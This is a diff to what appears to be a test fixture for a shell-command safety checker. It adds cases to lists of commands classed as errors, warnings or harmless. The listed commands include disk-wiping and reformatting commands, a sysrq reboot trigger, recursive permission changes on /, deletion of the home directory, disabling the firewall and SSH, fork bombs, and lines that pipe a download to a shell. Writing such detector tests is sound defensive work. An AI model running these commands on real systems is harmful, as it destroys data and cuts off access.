@@ -31,6 +31,9 @@ ERRORS = {
     "mkfs.ext4 /dev/sdb1": "/dev/sdb1", "mkfs -t xfs /dev/vdb": "/dev/vdb", "cat x > /dev/sda": "/dev/sda",
     "cat x >>/dev/sdb": "/dev/sdb", "chmod -R 777 /": "/", "chown -R app: /etc": "/etc", "kill -9 -1": "kill",
     "kill -KILL -1": "kill", "kill -s KILL -1": "kill", "wipefs -a /dev/sdc": "/dev/sdc",
+    "echo b > /proc/sysrq-trigger": "/proc/sysrq-trigger", "parted /dev/sda mklabel gpt": "parted",
+    "cryptsetup luksFormat /dev/sdb": "cryptsetup", "zcat x.img.gz | tee /dev/sdb": "/dev/sdb",
+    "cp x.img /dev/sdb": "/dev/sdb", "zpool destroy tank": "zpool", "chmod 0777 -R /": "/",
     ":(){ :|:& };:": ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb": "bomb() { bomb | bomb & }; bomb",
 }  # fmt: skip
 WARNINGS = {
@@ -46,7 +49,10 @@ WARNINGS = {
     "redis-cli FLUSHALL": "FLUSHALL",
     "chmod -R 777 /srv/app": "chmod",
     "chmod -R a+w .": "chmod", "curl -s http://a.test/x | sh": "curl", "wget -O- http://a.test | sudo bash": "wget",
-    "echo x > /etc/passwd": "/etc/passwd", "crontab -r": "crontab",
+    "echo x > /etc/passwd": "/etc/passwd", "rm -rf ~/*": "~/*", "rm -rf $HOME": "$HOME",
+    "/etc/init.d/ssh stop": "/etc/init.d/ssh", "pkill -9 sshd": "pkill", "ufw disable": "ufw",
+    "lvremove -f vg/data": "lvremove", "docker system prune -af": "docker", "telinit 6": "telinit",
+    "crontab -r": "crontab",
     "kubectl delete pods --all": "kubectl",
 }  # fmt: skip
 HARMLESS = [
@@ -59,7 +65,9 @@ HARMLESS = [
     "systemctl stop app", "systemctl is-active sshd", "psql -c 'DELETE FROM users WHERE id = 3'", "shutdown -c",
     "curl -s http://a.test/x -o x", "grep reboot /var/log/x", "ip link show",
     "crontab -l", "ls > /srv/out; cat x < /dev/sda",
-    "last reboot", "rm -rf /var/lib/app/{{ x | quote }}.d", "git rm -r etc",
+    "last reboot", "/etc/init.d/ssh restart", "ssh h.test uptime", "tee /srv/x", "cp a b", "parted /dev/sda print",
+    "docker ps", "pkill app", "fdisk -l", "rm -rf ~/.cache/x", "mv /dev/sda.img x",
+    "rm -rf /var/lib/app/{{ x | quote }}.d", "git rm -r etc",
 ]  # fmt: skip
 
 
